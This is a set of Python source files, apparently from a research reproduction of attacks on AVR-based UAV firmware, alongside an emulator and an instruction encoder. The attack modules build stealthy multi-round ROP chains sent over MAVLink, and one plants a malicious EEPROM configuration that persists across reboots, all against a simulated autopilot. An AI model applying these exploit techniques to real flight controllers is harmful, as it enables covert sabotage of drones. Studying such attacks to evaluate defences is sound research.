if _missing:  # pragma: no cover - import-time consistency check
    raise RuntimeError(f"mnemonics without handlers: {_missing}")


# -- engines -------------------------------------------------------------


class InterpreterEngine:
    """Reference engine: decode at PC on every single step."""

    name = "interpreter"

    def __init__(self, cpu: "AvrCpu") -> None:
        self.cpu = cpu
        # dispatch tables hoisted once, so fetch_entry pays two dict
        # indexes instead of two module-global lookups plus two indexes
        self._handlers = HANDLERS
        self._cycles = CYCLES_BY_MNEMONIC

    def fetch_entry(self) -> Entry:
        insn = self.cpu.fetch()
        mnemonic = insn.mnemonic
        return (
            self._handlers[mnemonic],
            insn,
            insn.size_words,
            self._cycles[mnemonic],
        )

    def run(self, max_instructions: int) -> int:
        cpu = self.cpu
        step = cpu.step  # bound once, not re-resolved per iteration
        executed = 0
        while not cpu.halted and executed < max_instructions:
            step()
            executed += 1
        return executed


class PredecodedEngine:
    """Fast engine: per-flash-generation decode cache + tight run loop."""

    name = "predecoded"

    def __init__(self, cpu: "AvrCpu") -> None:
        self.cpu = cpu
        self._generation: Optional[int] = None
        self._cache: List[Optional[Entry]] = []
        self.rebuilds = 0  # number of cache (re)allocations, for tests/benchmarks
        # Decode misses: every trip through ``_entry_at`` (cold cache slot
        # or out-of-cache PC).  Cache hits are derived at snapshot time as
        # ``instructions_retired - decode_misses`` — the hit path itself
        # stays untouched, which keeps telemetry off the hot loop.
        self.decode_misses = 0
        # Block-granularity profiling sink (see repro.avr.profile): when
        # set, it is a mutable mapping from Superblock to entry count;
        # the superblock engines upsert it inline once per retired block
        # (a dict operation, not a Python call, so the fast path stays
        # fast).  It lives on the base class so AvrProfiler can probe
        # for it uniformly; the per-instruction engines never touch it
        # (exact mode uses cpu.trace_hooks instead).
        self.profile_hook = None

    # -- cache maintenance ----------------------------------------------

    def _sync_cache(self) -> List[Optional[Entry]]:
        """Drop every cached decode if flash changed since it was filled."""
        flash = self.cpu.flash
        if flash.generation != self._generation:
            self._cache = [None] * (flash.size // 2)
            self._generation = flash.generation
            self.rebuilds += 1
        return self._cache

    def _entry_at(self, pc: int) -> Entry:
        """Decode one entry exactly as :meth:`AvrCpu.fetch` would."""
        self.decode_misses += 1
        cpu = self.cpu
        byte_addr = pc * 2
        try:
            word = cpu.flash.read_word(pc)
        except MemoryAccessError as exc:
            raise IllegalExecutionError(str(exc)) from exc
        next_word = None
        if needs_second_word(word):
            next_word = cpu.flash.read_word(pc + 1)
        try:
            insn = decode(word, next_word, byte_addr)
        except DecodeError as exc:
            raise IllegalExecutionError(
                f"undecodable opcode 0x{word:04x} at 0x{byte_addr:05x}"
            ) from exc
        mnemonic = insn.mnemonic
        return (
            HANDLERS[mnemonic],
            insn,
            insn.size_words,
            CYCLES_BY_MNEMONIC[mnemonic],
        )

    # -- execution ------------------------------------------------------

    def fetch_entry(self) -> Entry:
        cpu = self.cpu
        pc = cpu.pc
        byte_addr = pc * 2
        limit = cpu.code_limit
        if limit is not None and byte_addr >= limit:
            raise _out_of_image_error(byte_addr, limit)
        cache = self._sync_cache()
        if 0 <= pc < len(cache):
            entry = cache[pc]
            if entry is None:
                entry = cache[pc] = self._entry_at(pc)
            return entry
        return self._entry_at(pc)

    def run(self, max_instructions: int) -> int:
        """The hot loop: identical retire sequence, minimal per-step work."""
        cpu = self.cpu
        flash = cpu.flash
        cache = self._sync_cache()
        cache_len = len(cache)
        hooks = cpu.trace_hooks
        preamble = retire_preamble
        entry_at = self._entry_at
        executed = 0
        while not cpu.halted and executed < max_instructions:
            pc = preamble(cpu)
            if flash.generation != self._generation:
                cache = self._sync_cache()
                cache_len = len(cache)
            if 0 <= pc < cache_len:
                entry = cache[pc]
                if entry is None:
                    entry = cache[pc] = entry_at(pc)
            else:
                entry = entry_at(pc)
            handler, insn, size_words, base_cycles = entry
            cpu.pc = pc + size_words
            try:
                handler(cpu, insn)
            except Halt:
                cpu.halted = True
            except MemoryAccessError as exc:
                raise CpuFault(str(exc), pc * 2, cpu.cycles) from exc
            cpu.cycles += base_cycles
            cpu.instructions_retired += 1
            executed += 1
            if hooks:
                pc_bytes = pc * 2
                for hook in hooks:
                    hook(cpu, pc_bytes, insn)
        return executed


ENGINES = {
    InterpreterEngine.name: InterpreterEngine,
    PredecodedEngine.name: PredecodedEngine,
}

DEFAULT_ENGINE = PredecodedEngine.name


def create_engine(name: str, cpu: "AvrCpu"):
    """Instantiate the engine called ``name`` for ``cpu``."""
    try:
        factory = ENGINES[name]
    except KeyError:
        raise ValueError(
            f"unknown execution engine {name!r}; choose from {sorted(ENGINES)}"
        ) from None
    return factory(cpu)


# The superblock engines subclass PredecodedEngine (and each other), so
# they live in their own modules and register here after the base classes
# and dispatch tables exist.
from .blocks import BlockEngine  # noqa: E402  (import cycle: blocks needs the tables above)

ENGINES[BlockEngine.name] = BlockEngine

from .compiled import CompiledEngine  # noqa: E402  (needs BlockEngine + HANDLERS)

ENGINES[CompiledEngine.name] = CompiledEngine
