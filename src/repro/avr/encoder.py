"""Binary encoder: :class:`Instruction` -> AVR machine code words.

Encodings follow the AVR instruction set manual bit-for-bit for the
supported subset, so images we build are genuine AVR machine code and the
decoder/disassembler roundtrips (property-tested).
"""

from __future__ import annotations

from typing import List

from ..errors import EncodeError
from .insn import Instruction, Mnemonic

# Base opcodes for the register-register ALU group (0000..0010 11xx).
_RR_BASE = {
    Mnemonic.CPC: 0x0400,
    Mnemonic.SBC: 0x0800,
    Mnemonic.ADD: 0x0C00,
    Mnemonic.CPSE: 0x1000,
    Mnemonic.CP: 0x1400,
    Mnemonic.SUB: 0x1800,
    Mnemonic.ADC: 0x1C00,
    Mnemonic.AND: 0x2000,
    Mnemonic.EOR: 0x2400,
    Mnemonic.OR: 0x2800,
    Mnemonic.MOV: 0x2C00,
}

# Base opcodes for the register-immediate group (d = 16..31).
_IMM_BASE = {
    Mnemonic.CPI: 0x3000,
    Mnemonic.SBCI: 0x4000,
    Mnemonic.SUBI: 0x5000,
    Mnemonic.ORI: 0x6000,
    Mnemonic.ANDI: 0x7000,
    Mnemonic.LDI: 0xE000,
}

# Low nibbles for the 0x9000/0x9200 load/store group.
_LD_MODE = {
    Mnemonic.LD_Z_INC: 0x1,
    Mnemonic.LD_Z_DEC: 0x2,
    Mnemonic.LPM: 0x4,
    Mnemonic.LPM_INC: 0x5,
    Mnemonic.LD_Y_INC: 0x9,
    Mnemonic.LD_Y_DEC: 0xA,
    Mnemonic.LD_X: 0xC,
    Mnemonic.LD_X_INC: 0xD,
    Mnemonic.LD_X_DEC: 0xE,
    Mnemonic.POP: 0xF,
}
_ST_MODE = {
    Mnemonic.ST_Z_INC: 0x1,
    Mnemonic.ST_Z_DEC: 0x2,
    Mnemonic.ST_Y_INC: 0x9,
    Mnemonic.ST_Y_DEC: 0xA,
    Mnemonic.ST_X: 0xC,
    Mnemonic.ST_X_INC: 0xD,
    Mnemonic.ST_X_DEC: 0xE,
    Mnemonic.PUSH: 0xF,
}

# One-operand group low nibbles (0x9400 | d<<4 | nibble).
_ONE_OP = {
    Mnemonic.COM: 0x0,
    Mnemonic.NEG: 0x1,
    Mnemonic.SWAP: 0x2,
    Mnemonic.INC: 0x3,
    Mnemonic.ASR: 0x5,
    Mnemonic.LSR: 0x6,
    Mnemonic.ROR: 0x7,
    Mnemonic.DEC: 0xA,
}

_FIXED = {
    Mnemonic.NOP: 0x0000,
    Mnemonic.IJMP: 0x9409,
    Mnemonic.ICALL: 0x9509,
    Mnemonic.RET: 0x9508,
    Mnemonic.RETI: 0x9518,
    Mnemonic.SLEEP: 0x9588,
    Mnemonic.BREAK: 0x9598,
    Mnemonic.WDR: 0x95A8,
    Mnemonic.LPM_R0: 0x95C8,
}

_BIT_IO = {
    Mnemonic.CBI: 0x9800,
    Mnemonic.SBIC: 0x9900,
    Mnemonic.SBI: 0x9A00,
    Mnemonic.SBIS: 0x9B00,
}

_REG_BIT = {
    Mnemonic.BLD: 0xF800,
    Mnemonic.BST: 0xFA00,
    Mnemonic.SBRC: 0xFC00,
    Mnemonic.SBRS: 0xFE00,
}


def _check(cond: bool, message: str) -> None:
    if not cond:
        raise EncodeError(message)


def _req(value, name: str, insn: Instruction) -> int:
    _check(value is not None, f"{insn.mnemonic.value}: missing operand {name}")
    return value


def encode(insn: Instruction) -> List[int]:
    """Encode one instruction into a list of one or two 16-bit words."""
    m = insn.mnemonic

    if m in _FIXED:
        return [_FIXED[m]]

    if m in _RR_BASE:
        rd = _req(insn.rd, "rd", insn)
        rr = _req(insn.rr, "rr", insn)
        _check(0 <= rd < 32 and 0 <= rr < 32, f"{m.value}: register out of range")
        return [_RR_BASE[m] | ((rr & 0x10) << 5) | ((rd & 0x1F) << 4) | (rr & 0x0F)]

    if m in _IMM_BASE:
        rd = _req(insn.rd, "rd", insn)
        k = _req(insn.k, "k", insn)
        _check(16 <= rd < 32, f"{m.value}: rd must be r16..r31, got r{rd}")
        _check(0 <= k <= 0xFF, f"{m.value}: immediate out of range: {k}")
        return [_IMM_BASE[m] | ((k & 0xF0) << 4) | ((rd - 16) << 4) | (k & 0x0F)]

    if m is Mnemonic.MUL:
        rd = _req(insn.rd, "rd", insn)
        rr = _req(insn.rr, "rr", insn)
        _check(0 <= rd < 32 and 0 <= rr < 32, "mul: register out of range")
        return [0x9C00 | ((rr & 0x10) << 5) | (rd << 4) | (rr & 0x0F)]

    if m is Mnemonic.MULS:
        rd = _req(insn.rd, "rd", insn)
        rr = _req(insn.rr, "rr", insn)
        _check(16 <= rd < 32 and 16 <= rr < 32, "muls: registers must be r16..r31")
        return [0x0200 | ((rd - 16) << 4) | (rr - 16)]

    if m is Mnemonic.MULSU:
        rd = _req(insn.rd, "rd", insn)
        rr = _req(insn.rr, "rr", insn)
        _check(16 <= rd < 24 and 16 <= rr < 24, "mulsu: registers must be r16..r23")
        return [0x0300 | ((rd - 16) << 4) | (rr - 16)]

    if m is Mnemonic.MOVW:
        rd = _req(insn.rd, "rd", insn)
        rr = _req(insn.rr, "rr", insn)
        _check(rd % 2 == 0 and rr % 2 == 0, "movw: registers must be even")
        _check(0 <= rd < 32 and 0 <= rr < 32, "movw: register out of range")
        return [0x0100 | ((rd // 2) << 4) | (rr // 2)]

    if m in (Mnemonic.LDD_Y, Mnemonic.LDD_Z, Mnemonic.STD_Y, Mnemonic.STD_Z):
        q = insn.q or 0
        _check(0 <= q < 64, f"{m.value}: displacement out of range: {q}")
        store = m in (Mnemonic.STD_Y, Mnemonic.STD_Z)
        reg = _req(insn.rr if store else insn.rd, "rr" if store else "rd", insn)
        _check(0 <= reg < 32, f"{m.value}: register out of range")
        use_y = m in (Mnemonic.LDD_Y, Mnemonic.STD_Y)
        return [
            0x8000
            | ((q & 0x20) << 8)
            | ((q & 0x18) << 7)
            | (int(store) << 9)
            | (reg << 4)
            | (int(use_y) << 3)
            | (q & 0x07)
        ]

    if m in _LD_MODE or m is Mnemonic.LDS:
        rd = _req(insn.rd, "rd", insn)
        _check(0 <= rd < 32, f"{m.value}: register out of range")
        if m is Mnemonic.LDS:
            k = _req(insn.k, "k", insn)
            _check(0 <= k <= 0xFFFF, f"lds: address out of range: {k}")
            return [0x9000 | (rd << 4), k]
        return [0x9000 | (rd << 4) | _LD_MODE[m]]

    if m in _ST_MODE or m is Mnemonic.STS:
        reg = insn.rr if insn.rr is not None else insn.rd
        reg = _req(reg, "rr", insn)
        _check(0 <= reg < 32, f"{m.value}: register out of range")
        if m is Mnemonic.STS:
            k = _req(insn.k, "k", insn)
            _check(0 <= k <= 0xFFFF, f"sts: address out of range: {k}")
            return [0x9200 | (reg << 4), k]
        return [0x9200 | (reg << 4) | _ST_MODE[m]]

    if m in _ONE_OP:
        rd = _req(insn.rd, "rd", insn)
        _check(0 <= rd < 32, f"{m.value}: register out of range")
        return [0x9400 | (rd << 4) | _ONE_OP[m]]

    if m is Mnemonic.BSET:
        b = _req(insn.b, "b", insn)
        _check(0 <= b < 8, "bset: bit out of range")
        return [0x9408 | (b << 4)]

    if m is Mnemonic.BCLR:
        b = _req(insn.b, "b", insn)
        _check(0 <= b < 8, "bclr: bit out of range")
        return [0x9488 | (b << 4)]

    if m in (Mnemonic.JMP, Mnemonic.CALL):
        k = _req(insn.k, "k", insn)
        _check(0 <= k < (1 << 22), f"{m.value}: target out of 22-bit range: {k}")
        base = 0x940C if m is Mnemonic.JMP else 0x940E
        high = base | (((k >> 17) & 0x1F) << 4) | ((k >> 16) & 1)
        return [high, k & 0xFFFF]

    if m in (Mnemonic.ADIW, Mnemonic.SBIW):
        rd = _req(insn.rd, "rd", insn)
        k = _req(insn.k, "k", insn)
        _check(rd in (24, 26, 28, 30), f"{m.value}: rd must be 24/26/28/30")
        _check(0 <= k < 64, f"{m.value}: immediate out of range: {k}")
        base = 0x9600 if m is Mnemonic.ADIW else 0x9700
        return [base | ((k & 0x30) << 2) | (((rd - 24) // 2) << 4) | (k & 0x0F)]

    if m in _BIT_IO:
        a = _req(insn.a, "a", insn)
        b = _req(insn.b, "b", insn)
        _check(0 <= a < 32, f"{m.value}: I/O address must be 0..31, got {a}")
        _check(0 <= b < 8, f"{m.value}: bit out of range")
        return [_BIT_IO[m] | (a << 3) | b]

    if m is Mnemonic.IN:
        rd = _req(insn.rd, "rd", insn)
        a = _req(insn.a, "a", insn)
        _check(0 <= rd < 32, "in: register out of range")
        _check(0 <= a < 64, f"in: I/O address out of range: {a}")
        return [0xB000 | ((a & 0x30) << 5) | (rd << 4) | (a & 0x0F)]

    if m is Mnemonic.OUT:
        rr = insn.rr if insn.rr is not None else insn.rd
        rr = _req(rr, "rr", insn)
        a = _req(insn.a, "a", insn)
        _check(0 <= rr < 32, "out: register out of range")
        _check(0 <= a < 64, f"out: I/O address out of range: {a}")
        return [0xB800 | ((a & 0x30) << 5) | (rr << 4) | (a & 0x0F)]

    if m in (Mnemonic.RJMP, Mnemonic.RCALL):
        k = _req(insn.k, "k", insn)
        _check(-2048 <= k < 2048, f"{m.value}: displacement out of range: {k}")
        base = 0xC000 if m is Mnemonic.RJMP else 0xD000
        return [base | (k & 0xFFF)]

    if m in (Mnemonic.BRBS, Mnemonic.BRBC):
        k = _req(insn.k, "k", insn)
        b = _req(insn.b, "b", insn)
        _check(-64 <= k < 64, f"{m.value}: displacement out of range: {k}")
        _check(0 <= b < 8, f"{m.value}: SREG bit out of range")
        base = 0xF000 if m is Mnemonic.BRBS else 0xF400
        return [base | ((k & 0x7F) << 3) | b]

    if m in _REG_BIT:
        rd = _req(insn.rd, "rd", insn)
        b = _req(insn.b, "b", insn)
        _check(0 <= rd < 32, f"{m.value}: register out of range")
        _check(0 <= b < 8, f"{m.value}: bit out of range")
        return [_REG_BIT[m] | (rd << 4) | b]

    raise EncodeError(f"no encoding for mnemonic {m.value}")


def encode_bytes(insn: Instruction) -> bytes:
    """Encode one instruction into little-endian bytes."""
    out = bytearray()
    for word in encode(insn):
        out.append(word & 0xFF)
        out.append((word >> 8) & 0xFF)
    return bytes(out)


def encode_stream(insns) -> bytes:
    """Encode a sequence of instructions into contiguous machine code."""
    out = bytearray()
    for insn in insns:
        out.extend(encode_bytes(insn))
    return bytes(out)
