"""ROP Attack V3 — stealthy attack with arbitrarily large payload (§IV-E).

V2's payload is bounded by the vulnerable buffer.  V3 removes the bound
with the paper's *trampoline* technique, built from the same two gadgets:

1. **Staging rounds** — each round is a complete V2 clean-return attack
   whose only effect is to ``write_mem`` the next few bytes of a large
   chain into an unused region of SRAM.  The firmware keeps flying and
   telemetering between rounds; the ground station sees nothing.
2. **Trigger round** — a minimal overflow whose smashed return address is
   ``stk_move`` with r28/r29 pointing at the staged region: SP trampolines
   out of the buffer and the staged chain (any length, "bounded only by
   the amount of free memory") executes.  Its tail carries the same repair
   writes and home hop as V2, so even the big payload returns cleanly.
"""

from __future__ import annotations

from typing import List, Optional, Sequence

from ..binfmt.image import FirmwareImage
from ..errors import AttackError
from ..mavlink.messages import PARAM_SET
from ..mavlink.packet import HEADER_LENGTH
from ..uav.autopilot import Autopilot
from ..uav.groundstation import MaliciousGroundStation
from .chain import Write3
from .results import AttackOutcome, deliver
from .runtime_facts import RuntimeFacts, derive_runtime_facts, variable_address
from .v2_stealthy import StealthyAttack

# Unused SRAM where the large payload is staged: far above the firmware's
# variables (~0x200..0x300) and far below the stack (~0x21a0+).
DEFAULT_STAGING_BASE = 0x1000


class TrampolineAttack:
    """Builds the multi-round staged attack."""

    def __init__(
        self,
        image: FirmwareImage,
        facts: Optional[RuntimeFacts] = None,
        staging_base: int = DEFAULT_STAGING_BASE,
        telemetry=None,
    ) -> None:
        self.image = image
        self.facts = facts if facts is not None else derive_runtime_facts(image)
        self.staging_base = staging_base
        self.telemetry = telemetry
        self.v2 = StealthyAttack(image, self.facts)
        self.builder = self.v2.builder

    # -- construction ------------------------------------------------------

    def staged_chain(self, writes: Sequence[Write3]) -> bytes:
        """The large chain to plant at ``staging_base``.

        Identical structure to a V2 in-buffer chain — a stk_move landing
        pad, the write bounces, the repair writes, the home hop — but with
        no size constraint.
        """
        return self.builder.chain_block(
            list(writes) + self.v2.repair_writes(),
            final_ret_word=self.builder.stk.entry_word,
            final_regs=self.v2.home_hop_regs(),
        )

    def staging_rounds(self, staged: bytes, writes_per_round: int = 1) -> List[bytes]:
        """V2 payloads that incrementally plant ``staged`` in SRAM."""
        if writes_per_round < 1:
            raise AttackError("need at least one staging write per round")
        chunk_writes = self.builder.split_writes(self.staging_base, staged)
        rounds: List[bytes] = []
        for start in range(0, len(chunk_writes), writes_per_round):
            group = chunk_writes[start : start + writes_per_round]
            rounds.append(self.v2.attack_bytes(group))  # raises if oversized
        return rounds

    def trigger_round(self) -> bytes:
        """The final overflow: trampoline SP onto the staged chain."""
        facts = self.facts
        hop = self.staging_base - 1
        body = bytes([0xEE]) * (facts.buffer_size - HEADER_LENGTH)
        body += bytes([(hop >> 8) & 0xFF, hop & 0xFF])  # saved r29, r28
        from .chain import ret_address_bytes

        body += ret_address_bytes(self.builder.stk.entry_word)
        return body

    def all_rounds(self, writes: Sequence[Write3], writes_per_round: int = 1) -> List[bytes]:
        staged = self.staged_chain(writes)
        if self.staging_base + len(staged) >= self.facts.buffer_start - 64:
            raise AttackError(
                f"staged chain of {len(staged)} bytes collides with the stack"
            )
        return self.staging_rounds(staged, writes_per_round) + [self.trigger_round()]

    # -- delivery ------------------------------------------------------------

    def execute(
        self,
        autopilot: Autopilot,
        gcs: Optional[MaliciousGroundStation] = None,
        payload: Optional[Sequence[Write3]] = None,
        observe_ticks: int = 30,
    ) -> AttackOutcome:
        """Deliver a large payload: rewrite the whole gyro calibration,
        flip the navigation mode, and plant a marker string — more than a
        single V2 buffer chain could carry."""
        station = gcs if gcs is not None else MaliciousGroundStation()
        if payload is None:
            payload = self.demo_payload()
        frames = [
            station.exploit_burst(PARAM_SET.msg_id, round_bytes)
            for round_bytes in self.all_rounds(payload)
        ]
        watch = self._expected_effects(payload)
        return deliver(
            autopilot,
            station,
            frames,
            observe_ticks=observe_ticks,
            watch_variables=watch,
            name="rop-v3-trampoline",
            telemetry=self.telemetry,
        )

    def demo_payload(self) -> List[Write3]:
        """Six 3-byte writes (18 bytes of effect) — beyond V2's capacity.

        Targets are variables nothing in the control loop rewrites, so the
        post-attack observation window sees exactly the attacker's bytes:
        the full 3-axis gyro calibration plus a 12-byte marker across
        ``accel_value``/``attitude_state``.
        """
        gyro = variable_address(self.image, "gyro_offset")
        accel = variable_address(self.image, "accel_value")
        writes = self.builder.split_writes(
            gyro,
            (0x0040).to_bytes(2, "little")
            + (0x0080).to_bytes(2, "little")
            + (0x00C0).to_bytes(2, "little"),
        )
        writes += self.builder.split_writes(accel, b"TRAMPOLINE!\x00")
        return writes

    def _expected_effects(self, writes: Sequence[Write3]) -> dict:
        """Translate Write3s overlapping known variables into expectations."""
        expectations = {}
        for name in ("gyro_offset", "accel_value", "attitude_state"):
            symbol = self.image.symbols.get(name)
            base = variable_address(self.image, name)
            current = bytearray(symbol.size)
            touched = False
            for write in writes:
                for index, value in enumerate(write.values):
                    address = write.target + index
                    if base <= address < base + symbol.size:
                        current[address - base] = value
                        touched = True
            if touched:
                expectations[name] = int.from_bytes(bytes(current), "little")
        return expectations
