"""Fig. 6 reproduction: stack progression during the stealthy attack.

Steps a victim CPU instruction-by-instruction while a V2 payload executes
and snapshots the stack at the same seven moments the paper's figure
shows:

    (i)   clean stack before payload execution
    (ii)  dirty stack after payload injection (return address smashed)
    (iii) stack after execution of gadget1 (SP moved into the buffer)
    (iv)  stack after execution of the payload write
    (v)   stack before gadget2 executes the SP-address repair
    (vi)  stack after gadget1 runs again to move to the original location
    (vii) repaired stack for continued execution
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional

from ..avr.cpu import AvrCpu
from ..avr.devices import Usart
from ..avr.trace import StackSnapshot, snapshot_stack
from ..binfmt.image import FirmwareImage
from ..errors import AttackError
from ..uav.sensors import SensorSuite
from .v2_stealthy import StealthyAttack

_STAGE_LABELS = (
    "(i) Clean stack before payload execution",
    "(ii) Dirty stack after payload injection",
    "(iii) Stack after execution of Gadget1",
    "(iv) Stack after execution of payload",
    "(v) Stack before execution of gadget2 for SP address repair",
    "(vi) Stack after execution of gadget1 again to move to original location",
    "(vii) Repaired stack for continued execution",
)


@dataclass
class AttackTrace:
    """The seven labelled snapshots plus bookkeeping."""

    snapshots: List[StackSnapshot] = field(default_factory=list)
    instructions_executed: int = 0
    resumed_cleanly: bool = False

    def render(self) -> str:
        """Fig. 6-style text output."""
        parts = []
        for snap in self.snapshots:
            parts.append(snap.label)
            parts.append(snap.hexdump())
            parts.append("")
        parts.append(
            f"resumed cleanly: {self.resumed_cleanly} "
            f"({self.instructions_executed} instructions traced)"
        )
        return "\n".join(parts)


def trace_stealthy_attack(
    image: FirmwareImage,
    target_variable: str = "gyro_offset",
    values: bytes = b"\x40\x00\x00",
    window: int = 24,
    max_instructions: int = 400_000,
) -> AttackTrace:
    """Run a V2 attack under the microscope and capture Fig. 6."""
    from ..mavlink.messages import PARAM_SET
    from ..uav.groundstation import MaliciousGroundStation
    from .chain import Write3
    from .runtime_facts import variable_address

    attack = StealthyAttack(image)
    facts = attack.facts
    builder = attack.builder
    target = variable_address(image, target_variable)
    burst = MaliciousGroundStation().exploit_burst(
        PARAM_SET.msg_id, attack.attack_bytes([Write3(target, values)])
    )

    cpu = AvrCpu()
    usart = Usart(cpu)
    SensorSuite(cpu)
    cpu.load_program(image.code)
    cpu.reset()

    trace = AttackTrace()
    frame_window_base = facts.frame_sp - window + 8

    def snap(stage: int, base: Optional[int] = None) -> None:
        trace.snapshots.append(
            snapshot_stack(cpu, _STAGE_LABELS[stage], window=window, base=base)
        )

    # run until the handler call site once so state is the steady loop state
    _run_until_pc(cpu, facts.call_site, max_instructions, trace)
    snap(0, base=frame_window_base)

    # deliver the exploit and run until the smashed return is about to fire:
    # the first arrival at the stk_move entry
    usart.feed_bytes(burst)
    stk_entry = builder.stk.entry
    _run_until_pc(cpu, stk_entry, max_instructions, trace)
    snap(1, base=frame_window_base)

    # gadget1 finishes when its ret executes (SP inside the buffer)
    _run_until_pc(cpu, builder.wm.pop_entry, max_instructions, trace)
    snap(2)

    # first std bounce = the payload write
    _run_until_pc(cpu, builder.wm.std_entry, max_instructions, trace)
    _step_over_stores(cpu, builder)
    snap(3)

    # before the repair bounces
    _run_until_pc(cpu, builder.wm.std_entry, max_instructions, trace)
    snap(4)

    # the closing stk_move hop
    _run_until_pc(cpu, stk_entry, max_instructions, trace)
    _run_until_mnemonic_ret(cpu, max_instructions, trace)
    snap(5, base=frame_window_base)

    # resume: execution continues after the repaired return
    resume_pc = facts.return_address_word * 2
    _run_until_pc(cpu, resume_pc, max_instructions, trace)
    snap(6, base=frame_window_base)
    trace.resumed_cleanly = cpu.pc_bytes == resume_pc and cpu.data.sp == facts.frame_sp + 3
    return trace


def _run_until_pc(cpu: AvrCpu, pc_bytes: int, budget: int, trace: AttackTrace) -> None:
    while cpu.pc_bytes != pc_bytes:
        cpu.step()
        trace.instructions_executed += 1
        if trace.instructions_executed > budget:
            raise AttackError(
                f"trace never reached 0x{pc_bytes:05x} "
                f"(stuck near 0x{cpu.pc_bytes:05x})"
            )


def _step_over_stores(cpu: AvrCpu, builder) -> None:
    for _ in builder.wm.stores:
        cpu.step()


def _run_until_mnemonic_ret(cpu: AvrCpu, budget: int, trace: AttackTrace) -> None:
    from ..avr.insn import Mnemonic

    steps = 0
    while True:
        insn = cpu.step()
        trace.instructions_executed += 1
        steps += 1
        if insn.mnemonic is Mnemonic.RET:
            return
        if steps > budget:
            raise AttackError("no ret reached while closing the attack")
