"""Attack V4 — persistence through the EEPROM (extension).

The paper's attacks change SRAM state, which a reset (or a MAVR reflash)
wipes.  This extension shows the same two gadgets reach *persistent*
state: because the EEPROM controller registers (EECR/EEDR/EEAR) live in
the data space like everything else, ``write_mem_gadget``'s plain stores
can program the EEPROM.

The chain stages a value+address pair into EEDR/EEAR, then every
subsequent 3-byte store at EECR both strobes the write-enable bit
(committing the previous byte) and stages the next pair — one extra
write per persisted byte.  Delivered through the V3 trampoline, the
attacker plants a valid configuration block (magic + 6-byte gyro
calibration) that ``config_load`` restores on *every* boot.

Defensive takeaway (discussed in EXPERIMENTS.md): MAVR reflashes the
program flash, not the EEPROM — randomization prevents the exploit from
*running* on a protected board, but on an unprotected board the damage
outlives any number of reboots.
"""

from __future__ import annotations

from typing import List, Optional, Sequence, Tuple

from ..avr.iospace import EECR_DATA, EEDR_DATA, EEPE_BIT
from ..binfmt.image import FirmwareImage
from ..firmware.hwmap import CONFIG_EEPROM_ADDR, CONFIG_MAGIC
from ..uav.autopilot import Autopilot
from ..uav.groundstation import MaliciousGroundStation
from .chain import FILL_BYTE, Write3
from .results import AttackOutcome
from .runtime_facts import RuntimeFacts, variable_address
from .v3_trampoline import TrampolineAttack


def eeprom_program_writes(pairs: Sequence[Tuple[int, int]]) -> List[Write3]:
    """Write3 sequence that programs ``(address, value)`` pairs.

    Each :class:`Write3` covers three consecutive data bytes, so:

    * the first store targets EEDR (0x40): ``[value0, addr0_lo, addr0_hi]``
      — staging without strobing;
    * every following store targets EECR (0x3F):
      ``[EEPE, value_i, addr_i_lo]`` — the EECR byte commits the staged
      pair, and the two side-effect bytes stage the next one.

    Addresses must stay below 256 (EEARH fixed at 0 after staging #0),
    which covers the configuration area comfortably.
    """
    if not pairs:
        return []
    for address, _value in pairs:
        if not 0 <= address < 256:
            raise ValueError(f"EEPROM address out of byte range: {address}")
    first_addr, first_value = pairs[0][0], pairs[0][1]
    writes = [Write3(EEDR_DATA, bytes([first_value, first_addr, 0x00]))]
    strobe = 1 << EEPE_BIT
    for next_addr, next_value in list(pairs[1:]) + [(0, 0)]:
        writes.append(Write3(EECR_DATA, bytes([strobe, next_value, next_addr])))
    # the trailing strobe committed the last real pair and staged (0,0);
    # no extra strobe follows, so EEPROM cell 0 is never touched
    return writes


def config_block_pairs(calibration: bytes) -> List[Tuple[int, int]]:
    """(address, value) pairs for a valid firmware configuration block."""
    if len(calibration) != 6:
        raise ValueError("calibration must be exactly 6 bytes")
    pairs = [(CONFIG_EEPROM_ADDR, CONFIG_MAGIC)]
    for index, value in enumerate(calibration):
        pairs.append((CONFIG_EEPROM_ADDR + 1 + index, value))
    return pairs


class PersistenceAttack:
    """Plant a malicious EEPROM configuration via the trampoline."""

    def __init__(
        self,
        image: FirmwareImage,
        facts: Optional[RuntimeFacts] = None,
        telemetry=None,
    ) -> None:
        self.image = image
        self.telemetry = telemetry
        self.trampoline = TrampolineAttack(image, facts, telemetry=telemetry)

    def execute(
        self,
        autopilot: Autopilot,
        gcs: Optional[MaliciousGroundStation] = None,
        calibration: bytes = b"\x40\x00\x80\x00\xc0\x00",
        observe_ticks: int = 30,
    ) -> AttackOutcome:
        writes = eeprom_program_writes(config_block_pairs(calibration))
        outcome = self.trampoline.execute(
            autopilot, gcs=gcs, payload=writes, observe_ticks=observe_ticks,
        )
        # effects on SRAM variables are not the goal here; report the
        # EEPROM block instead
        planted = bytes(
            autopilot.cpu.eeprom.read(CONFIG_EEPROM_ADDR + offset)
            for offset in range(7)
        )
        expected = bytes([CONFIG_MAGIC]) + calibration
        if planted == expected:
            outcome.effects["eeprom_config"] = int.from_bytes(planted, "little")
        return outcome
