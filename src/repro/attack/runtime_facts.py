"""Attacker-side analysis of the victim binary.

The threat model (paper §IV-A) gives the attacker the *unprotected*
application binary.  From it they recover everything the exploit needs:

* where ``main`` calls the vulnerable MAVLink handler, hence the return
  address the overflow clobbers and must later repair;
* the stack pointer and the callee-saved r28/r29 values at that call site
  (the firmware is deterministic, so a dry run of the binary in the
  attacker's own simulator — the same thing the authors did with a debug
  board — yields exact values);
* the addresses of the SRAM variables worth corrupting.
"""

from __future__ import annotations

from dataclasses import dataclass

from ..avr.cpu import AvrCpu
from ..avr.decoder import decode_at
from ..avr.insn import Mnemonic
from ..binfmt.image import FirmwareImage
from ..binfmt.symtab import DATA_SPACE_FLAG
from ..errors import AttackError, DecodeError
from ..firmware.hwmap import RX_BUFFER_SIZE


@dataclass(frozen=True)
class RuntimeFacts:
    """Everything the exploit builder needs to know about the victim."""

    call_site: int  # byte address of `call mavlink_handle_rx` in main
    return_address_word: int  # word address execution must resume at
    frame_sp: int  # S0: SP right after the call instruction executes
    saved_r28: int  # caller's r28 at the call site
    saved_r29: int  # caller's r29 at the call site
    buffer_start: int  # data address of the vulnerable buffer's first byte
    buffer_size: int

    @property
    def saved_r29_slot(self) -> int:
        """Data address holding the pushed r29 (buffer overflow reaches it)."""
        return self.frame_sp - 1

    @property
    def return_address_slot(self) -> int:
        """Lowest data address of the 3-byte pushed return address."""
        return self.frame_sp + 1


